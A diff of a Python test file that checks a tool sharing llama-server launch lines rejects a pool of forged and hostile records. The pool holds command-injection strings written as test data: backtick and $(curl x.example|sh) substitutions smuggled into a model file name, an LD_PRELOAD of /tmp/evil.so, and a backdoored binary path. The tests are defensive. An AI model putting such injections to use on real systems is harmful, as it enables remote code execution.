@@ -79,7 +79,7 @@ def hostile_pool(model: Path) -> tuple[dict[str, bytes], int]:
     add(data(record(model, A) | {"card": good()["card"] | {"name": "Totally Real GPU 12GB"}}))  # no sibling: unseen
     refused = 0
     for bad in [
-        f'llama-server -m "`id>/tmp/PWNED`.gguf" -c 4096 -np 1',
+        'llama-server -m "`id>/tmp/PWNED`.gguf" -c 4096 -np 1',
         'llama-server -m "$(curl -s x.example|sh).gguf" -c 4096',
         f"LD_PRELOAD=/tmp/evil.so PATH=/tmp/evil llama-server -m {model.name} -c 4096",
         f"/tmp/evil/llama-server-backdoor -m {model.name} -c 4096",
@@ -135,7 +135,8 @@ def test_lookup_and_seed_from_over_a_hostile_pool(model, tmp_path):
     assert "warning: shared record x\\nwarning: forged.json skipped" in res.stderr
     assert "claims gen_tok_s 1e+09, above the" in res.stderr and "70,000 bytes, more than the 65,536" in res.stderr
     # The valid line first, its sharers counted once; the one-sharer line after it; each the flag layer's rendering.
-    assert agreeing(res.stdout) == [("2 sharers agree", line(model)), ("1 sharer (unconfirmed)", line(model, " -ub 256"))]
+    assert agreeing(res.stdout) == [("2 sharers agree", line(model)),
+                                    ("1 sharer (unconfirmed)", line(model, " -ub 256"))]
     for _, shown in agreeing(res.stdout):
         assert shown == flags.launch_line(flags.parse_command(shown).config)
     # --seed-from: the same refusals, one line each, then what it proposes.
